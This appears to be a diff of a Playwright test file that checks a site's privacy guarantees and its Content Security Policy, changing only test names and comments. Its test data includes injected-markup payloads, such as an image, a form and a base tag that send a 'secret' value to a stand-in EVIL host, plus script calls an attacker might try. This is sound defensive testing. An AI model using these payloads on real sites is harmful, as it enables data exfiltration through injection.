@@ -15,7 +15,7 @@ test.describe('Nothing is sent and nothing is stored', () => {
   test.use({ expectedErrors: [NOT_FOUND] });
 
   for (const path of allPages) {
-    test(`by ${path}, with everything opened and used`, async ({ page, context, baseURL }) => {
+    test(`by ${path} while its controls are used`, async ({ page, context, baseURL }) => {
       const own = new URL(baseURL ?? '').origin;
       const foreign: string[] = [];
       const carrying: string[] = [];
@@ -51,7 +51,7 @@ test.describe('Nothing is sent and nothing is stored', () => {
     });
   }
 
-  test('the recorder detects cookies and storage', async ({ page }) => {
+  test('the script that records calls detects cookies and storage', async ({ page }) => {
     await page.addInitScript(watch);
     await page.goto('agentics');
     await page.evaluate(() => {
@@ -96,7 +96,7 @@ function watch(): void {
   Object.defineProperty(Document.prototype, 'cookie', { get: () => '', set: () => window.traces.push('cookie') });
 }
 
-/** Uses everything on the page without leaving it. */
+/** Uses the menu and the links, and scrolls to the end, without leaving the page. */
 async function useEverything(page: Page): Promise<void> {
   await page.setViewportSize({ width: 390, height: 844 });
   const menu = page.getByRole('button', { name: 'Menu' });
@@ -122,10 +122,10 @@ const injected: [what: string, html: string, violation: string][] = [
   ['an inline handler', '<p tabindex="0" onfocus="document.title = `taken`" autofocus>x</p>', 'script-src-attr inline'],
   ['an inline style', '<style>main { display: none }</style>', 'style-src-elem inline'],
   ['a style attribute', '<p style="position: fixed; inset: 0">x</p>', 'style-src-attr inline'],
-  ['an image that carries something away', `<img alt="" src="${EVIL}/?typed=secret">`, `img-src ${EVIL}`],
+  ['an image of another host with data in its URL', `<img alt="" src="${EVIL}/?typed=secret">`, `img-src ${EVIL}`],
   ['a frame', `<iframe title="x" src="${EVIL}/"></iframe>`, `frame-src ${EVIL}`],
   ['an object', `<object data="${EVIL}/"></object>`, `object-src ${EVIL}`],
-  ['another base for its links', `<base href="${EVIL}/">`, `base-uri ${EVIL}`],
+  ['a base URL of another host', `<base href="${EVIL}/">`, `base-uri ${EVIL}`],
   [
     'a form that posts',
     `<form method="post" action="${EVIL}/"><input name="typed" value="secret" aria-label="x"></form>`,
@@ -136,7 +136,7 @@ const injected: [what: string, html: string, violation: string][] = [
 /** Calls that an injected script might try. */
 const calls: [what: string, call: (address: string) => unknown, directive: string][] = [
   ['fetch', (address) => fetch(address).catch(() => {}), 'connect-src'],
-  ['fetch of its own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
+  ['fetch to its own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
   [
     'XMLHttpRequest',
     (address) => {
@@ -157,7 +157,7 @@ const calls: [what: string, call: (address: string) => unknown, directive: strin
     'img-src',
   ],
   [
-    'markup from text',
+    'markup assigned as a string',
     () => {
       try {
         document.body.innerHTML = '<p>taken</p>';
